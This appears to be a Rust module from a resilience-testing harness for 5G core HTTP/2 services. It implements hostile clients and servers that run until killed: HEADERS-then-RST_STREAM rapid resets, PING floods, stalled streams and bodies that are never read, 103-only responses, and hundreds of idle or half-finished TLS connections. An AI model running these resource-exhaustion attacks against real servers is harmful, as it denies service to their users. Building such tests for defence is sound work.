//! Attackers with a fixed rate, which run until they are killed.

use std::collections::VecDeque;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::thread::{sleep, spawn};
use std::time::Duration;

use super::Hostility;
use super::hello::client_hello;
use crate::Error;
use crate::stand_in::proxies::frame::{
    DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, SETTINGS_INITIAL_WINDOW_SIZE,
    WINDOW_UPDATE, put, put_literal,
};

/// Time between two rounds of the same.
const ROUND: Duration = Duration::from_millis(20);
/// Connections of a hostile client.
const CONNECTIONS: usize = 4;
/// Requests of a connection whose answers are never taken.
const STALLED: u32 = 60;
/// PING frames of each round and connection.
const PINGS: u64 = 10;
const RESETS: u32 = 2;
/// Connections of an unauthenticated client in a round, and how many stay open.
const ATTEMPTS: usize = 4;
const OPEN: usize = 300;
/// Methods in the static table of HPACK.
const GET: u8 = 0x82;
const POST: u8 = 0x83;
/// Bytes of a body that the hostile producer does not take, and how many requests of them wait there.
const BODY: usize = 48 * 1024;
const UNTAKEN: u32 = 20;

/// Is hostile towards `to` until the process is killed; `listen` is where the hostile producer stands.
///
/// # Errors
/// Fails if the attack cannot start.
pub fn attack(hostility: Hostility, to: SocketAddr, listen: Option<SocketAddr>) -> Result<(), Error> {
    match hostility {
        Hostility::Quiet => Ok(()),
        Hostility::Consumer | Hostility::Neighbour => {
            let clients: Vec<_> = (0..CONNECTIONS).map(|_| spawn(move || takes_nothing(to))).collect();
            clients.into_iter().for_each(|client| drop(client.join()));
            Ok(())
        }
        Hostility::Producer => {
            let listen = listen.ok_or_else(|| Error::Configuration("a hostile producer listens".to_owned()))?;
            let listener = TcpListener::bind(listen).map_err(|source| Error::Connection {
                address: listen,
                source,
            })?;
            spawn(move || {
                listener
                    .incoming()
                    .flatten()
                    .for_each(|stream| drop(spawn(move || answers_nothing(stream))));
            });
            loop {
                let _ = asks_in_vain(to);
                sleep(ROUND);
            }
        }
        Hostility::Unauthenticated => open_and_leave(to),
    }
}

/// The head of a request with this method, whose `:scheme` is http.
fn head(method: u8) -> Vec<u8> {
    let mut block = vec![method, 0x86];
    put_literal(&mut block, 0x00, 4, 0x04, "/nudm-sdm/v2/imsi-208930000000001/nssai");
    put_literal(&mut block, 0x00, 4, 0x01, "producer.5gc");
    block
}

/// The opening of a side that takes no body at all.
fn opening(out: &mut Vec<u8>) {
    let mut settings = SETTINGS_INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    settings.extend_from_slice(&0_u32.to_be_bytes());
    put(out, SETTINGS, 0, 0, &settings);
    put(out, WINDOW_UPDATE, 0, 0, &(1_u32 << 20).to_be_bytes());
}

/// A client that asks, takes no bodies, takes requests back and says much that means nothing; once
/// its connection is closed it connects again.
fn takes_nothing(to: SocketAddr) {
    loop {
        let _ = try_takes_nothing(to);
        sleep(ROUND);
    }
}

fn try_takes_nothing(to: SocketAddr) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(to)?;
    let mut out = PREFACE.to_vec();
    opening(&mut out);
    let mut next = 1;
    for _ in 0..STALLED {
        put(&mut out, HEADERS, END_HEADERS | END_STREAM, next, &head(GET));
        next += 2;
    }
    drain(&stream)?;
    loop {
        for _ in 0..RESETS {
            put(&mut out, HEADERS, END_HEADERS | END_STREAM, next, &head(GET));
            put(&mut out, RST_STREAM, 0, next, &8_u32.to_be_bytes());
            next += 2;
        }
        for ping in 0..PINGS {
            put(&mut out, PING, 0, 0, &ping.to_be_bytes());
        }
        stream.write_all(&out)?;
        out.clear();
        sleep(ROUND);
    }
}

/// Reads what comes, so that what is not taken are bodies and nothing else.
fn drain(stream: &TcpStream) -> std::io::Result<()> {
    let mut stream = stream.try_clone()?;
    spawn(move || {
        let mut bytes = [0; 4096];
        while matches!(stream.read(&mut bytes), Ok(1..)) {}
    });
    Ok(())
}

/// A server that takes no bodies, and answers with interim responses alone.
fn answers_nothing(mut stream: TcpStream) {
    let mut out = Vec::new();
    opening(&mut out);
    let _ = drain(&stream);
    // The requests come first.
    sleep(ROUND * 5);
    let mut round = 0_u32;
    loop {
        // `:status: 103` by its name in the static table; the streams that its sidecar opens are odd.
        let interim = b"\x08\x03103";
        put(&mut out, HEADERS, END_HEADERS, 1 + 2 * (round % UNTAKEN), interim);
        round += 1;
        if stream.write_all(&out).is_err() {
            return;
        }
        out.clear();
        sleep(ROUND);
    }
}

/// The consumer's own function, which sends the hostile producer requests with bodies that are
/// never read.
fn asks_in_vain(to: SocketAddr) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(to)?;
    let mut out = PREFACE.to_vec();
    put(&mut out, SETTINGS, 0, 0, &[]);
    drain(&stream)?;
    let mut next = 1;
    for _ in 0..UNTAKEN {
        put(&mut out, HEADERS, END_HEADERS, next, &head(POST));
        next += 2;
        stream.write_all(&out)?;
        out.clear();
    }
    // As much as the windows allow. Then it waits for more, as an honest client would.
    for piece in [b'x'; BODY].chunks(16_000) {
        put(&mut out, DATA, 0, 1, piece);
    }
    stream.write_all(&out)?;
    sleep(Duration::from_secs(3600));
    Ok(())
}

/// Connections that never authenticate: silent ones, half a record, garbage, and hellos whose answer is never taken.
fn open_and_leave(to: SocketAddr) -> Result<(), Error> {
    let mut open = VecDeque::new();
    let hello = client_hello();
    let mut kinds = (0_u8..5).cycle();
    loop {
        for kind in kinds.by_ref().take(ATTEMPTS) {
            let Ok(mut stream) = TcpStream::connect(to) else {
                continue;
            };
            let said: &[u8] = match kind {
                0 => b"",
                // A handshake record of 512 bytes that does not come, and its beginning.
                1 => b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
                2 => b"GET / HTTP/1.1\r\n\r\n",
                3 => &hello,
                _ => b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00",
            };
            let _ = stream.write_all(said);
            open.push_back(stream);
            if open.len() > OPEN {
                open.pop_front();
            }
        }
        sleep(ROUND);
    }
}
